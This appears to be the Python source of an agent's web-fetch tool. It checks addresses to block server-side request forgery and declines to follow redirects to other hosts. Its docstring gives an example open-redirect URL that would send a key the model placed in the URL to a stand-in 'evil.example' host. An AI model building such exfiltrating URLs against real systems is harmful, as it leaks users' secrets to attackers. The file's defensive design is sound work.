"""WebFetch (Claude Code's name and arguments: `url`, `prompt`): fetch a page and give the model its Markdown.

Safe against server-side request forgery: every address a host name resolves to must be a public one, checked
before connecting and again at every redirect, and the connection goes to the address that was checked (no
second lookup for a hostile DNS server to answer differently). Loopback, private, link-local (the cloud metadata
service at 169.254.169.254), shared and reserved addresses are refused unless a permission rule allows that
exact host (`WebFetch(domain:127.0.0.1)`). Only http and https; a few redirects; size, time (per read and for the
whole fetch, so a page that drips a byte at a time ends) and content-type caps. The web libraries are imported
only when this tool runs.

A redirect to another host is not followed: the model is told where it leads and must fetch that URL itself, which
the permission policy judges on its own (Claude Code does the same). Otherwise an approved domain's open redirect
(`https://approved.example/out?to=https://evil.example/?key=…`) would carry a request, and whatever the model put in
its URL, to a host nobody approved.
"""

from __future__ import annotations

import ipaddress
import socket
import time
from typing import Any
from urllib.parse import urljoin, urlsplit

from agentcli.record import record
from agentcli.tools.base import ToolContext, ToolOutput
from agentcli.tools.specs import FromSpec

MAX_BYTES = 5 * 1024 * 1024
MAX_REDIRECTS = 5
TIMEOUT_S = 30.0
TOTAL_S = 60.0  # the whole fetch, redirects and body included
MAX_CHARS = 100_000  # of Markdown handed to the model
CACHE_S = 15 * 60
TEXT_TYPES = ("text/", "application/json", "application/xml", "application/xhtml+xml", "application/ld+json",
              "application/javascript", "application/x-yaml")


class FetchRefused(Exception):
    """The URL is not one this tool will fetch; the message says why and what would allow it."""


class Redirected(Exception):
    """The page redirects to another host: `url` is where, for the model to fetch (and the policy to judge)."""

    def __init__(self, url: str, status: int) -> None:
        super().__init__(url)
        self.url = url
        self.status = status


@record
class Page:
    url: str
    status: int
    content_type: str
    text: str


def check_url(url: str, allowed_private: frozenset[str]) -> tuple[str, str, int, str]:
    """(scheme, host, port, the address to connect to) for a URL that may be fetched; FetchRefused otherwise."""
    parts = urlsplit(url)
    if parts.scheme not in ("http", "https"):
        raise FetchRefused(f"only http and https URLs can be fetched, not {parts.scheme or 'this'!r}")
    host = (parts.hostname or "").rstrip(".").lower()
    if not host:
        raise FetchRefused("the URL has no host")
    if parts.username or parts.password:
        raise FetchRefused("URLs with credentials are not fetched")
    try:
        port = parts.port or (443 if parts.scheme == "https" else 80)
    except ValueError as err:
        raise FetchRefused(f"bad port in the URL: {err}") from err
    try:
        infos = socket.getaddrinfo(host, port, type=socket.SOCK_STREAM)
    except (socket.gaierror, UnicodeError) as err:
        raise FetchRefused(f"cannot resolve {host}: {err}") from err
    addresses = [str(info[4][0]) for info in infos]
    if host not in allowed_private:
        from agentcli.net.addr import is_public

        for a in addresses:
            if not is_public(ipaddress.ip_address(a.split("%")[0])):
                raise FetchRefused(f"{host} resolves to {a}, a private, loopback or link-local address; allow it "
                                   f"explicitly with a rule WebFetch(domain:{host}) if you mean it")
    return parts.scheme, host, port, addresses[0]


async def fetch(url: str, allowed_private: frozenset[str], total_s: float = TOTAL_S) -> Page:
    """The page at `url`, redirects on the same host followed; FetchRefused, Redirected (another host) or an
    httpx error otherwise."""
    import asyncio

    try:
        async with asyncio.timeout(total_s):
            return await _fetch(url, allowed_private)
    except TimeoutError:
        raise FetchRefused(f"{url} took more than {total_s:g} s to fetch") from None


def _same_host(a: str, b: str) -> bool:
    """Hosts equal but for a leading `www.`, as Claude Code's WebFetch allows."""
    strip = [(urlsplit(u).hostname or "").rstrip(".").lower().removeprefix("www.") for u in (a, b)]
    return strip[0] == strip[1] and urlsplit(a).port == urlsplit(b).port


async def _fetch(url: str, allowed_private: frozenset[str]) -> Page:
    from agentcli.net.preload import ensure

    ensure()  # never beside another thread's import of the stack
    import httpx

    from agentcli.net.tls import trust_context  # the one trust store (SSL_CERT_FILE / SSL_CERT_DIR honoured)

    async with httpx.AsyncClient(timeout=httpx.Timeout(TIMEOUT_S, connect=10.0), follow_redirects=False,
                                 trust_env=False, verify=trust_context()) as client:
        for _ in range(MAX_REDIRECTS + 1):
            scheme, host, port, address = check_url(url, allowed_private)
            target = httpx.URL(url).copy_with(host=address if ":" not in address else f"[{address}]")
            headers = {"host": host if port in (80, 443) else f"{host}:{port}", "accept": "text/html, text/*;q=0.9",
                       "user-agent": "agentcli-webfetch"}
            request = client.build_request("GET", target, headers=headers,
                                           extensions={"sni_hostname": host} if scheme == "https" else {})
            response = await client.send(request, stream=True)
            try:
                if response.is_redirect:
                    location = response.headers.get("location")
                    if not location:
                        raise FetchRefused(f"{url} redirected without a Location")
                    target = urljoin(url, location)
                    if not _same_host(url, target):
                        check_url(target, allowed_private)  # a private target is refused as such
                        raise Redirected(target, response.status_code)
                    url = target
                    continue
                return await _read(url, response)
            finally:
                await response.aclose()
    raise FetchRefused(f"more than {MAX_REDIRECTS} redirects")


async def _read(url: str, response: Any) -> Page:
    ctype = response.headers.get("content-type", "").split(";")[0].strip().lower()
    if ctype and not ctype.startswith(TEXT_TYPES):
        raise FetchRefused(f"{url} is {ctype}, not a text page")
    length = response.headers.get("content-length")
    if length and length.isdigit() and int(length) > MAX_BYTES:
        raise FetchRefused(f"{url} is {int(length) // 1024} KiB; the limit is {MAX_BYTES // 1024} KiB")
    chunks: list[bytes] = []
    size = 0
    async for chunk in response.aiter_bytes():
        size += len(chunk)
        if size > MAX_BYTES:
            raise FetchRefused(f"{url} is larger than {MAX_BYTES // 1024} KiB")
        chunks.append(chunk)
    body = b"".join(chunks)
    text = body.decode(response.encoding or "utf-8", errors="replace")
    return Page(url, response.status_code, ctype or "text/plain", text)


def to_markdown(page: Page) -> str:
    if "html" not in page.content_type:
        return page.text
    import html_to_markdown

    # Only the Markdown is wanted: skipping metadata, structure and image extraction saves a quarter of the time.
    options = html_to_markdown.ConversionOptions(extract_metadata=False, include_document_structure=False,
                                                 extract_images=False)
    return str(html_to_markdown.convert(page.text, options).content)


class WebFetchTool(FromSpec, spec="WebFetch"):
    async def run(self, args: dict[str, Any], ctx: ToolContext) -> ToolOutput:
        url = str(args["url"]).strip()
        cache = ctx.web.cache
        hit = cache.get(url)
        if hit is not None and time.monotonic() - hit[0] < CACHE_S:
            final, markdown = hit[1], hit[2]
        else:
            allowed = ctx.web.private_hosts
            try:
                page = await fetch(url, allowed)
            except FetchRefused as err:
                return ToolOutput.error(f"WebFetch refused: {err}")
            except Redirected as moved:
                return ToolOutput(ctx.redact(
                    f"{url} redirects (HTTP {moved.status}) to another host: {moved.url}\nIt was not followed. To "
                    "read it, call WebFetch again with that URL (it may need the user's approval)."),
                    display=f"redirect to {moved.url} not followed")
            except Exception as err:  # httpx errors: timeouts, TLS, resets — the model reads them
                return ToolOutput.error(f"WebFetch failed for {url}: {type(err).__name__}: {err}")
            if page.status >= 400:
                return ToolOutput.error(f"{url} answered HTTP {page.status}")
            final, markdown = page.url, to_markdown(page)
            cache[url] = (time.monotonic(), final, markdown)
        cut = len(markdown) > MAX_CHARS
        body = markdown[:MAX_CHARS] + ("\n\n[… the page goes on; it was cut here]" if cut else "")
        where = f" (redirected to {final})" if final != url else ""
        content = f"Fetched {url}{where}. The task for this page: {args['prompt']}\n\n{body}"
        return ToolOutput(ctx.redact(content), display=f"{len(markdown):,} characters of Markdown from {final}")
